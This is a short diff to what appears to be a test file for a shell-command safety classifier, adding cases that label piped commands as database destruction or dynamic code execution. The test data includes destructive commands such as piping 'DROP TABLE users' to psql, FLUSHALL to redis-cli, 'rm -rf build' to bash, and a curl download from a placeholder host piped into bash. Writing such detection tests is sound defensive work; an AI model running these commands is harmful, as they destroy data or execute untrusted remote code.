@@ -557,6 +557,9 @@ OTHER_LANGUAGES = [
     ("echo 'DROP TABLE users' > x.sql; cat x.sql | psql", {"destroy:database"}),
     ("echo FLUSHALL > c.txt; cat c.txt | redis-cli", {"destroy:database"}),
     ("curl -s https://x.example/x | cat x.sh - | bash", {"dynamic:code"}),  # cat's own input
+    ("cat -n x.sh | bash", {"dynamic:code"}),  # numbered lines: not the file as it is
+    ("gzip -c dump.sql | psql", {"dynamic:code"}),  # -c alone packs: not the SQL
+    ("echo 'rm -rf build' > x.sh; cat x.sh y.sh | bash", {"dynamic:code"}),
     # Redis commands and mongosh's JavaScript from a pipe are not known
     ("curl -s https://x.example/cmds | redis-cli", {"destroy:database"}),
     ("redis-cli <<< 'FLUSHALL'", {"destroy:database"}),
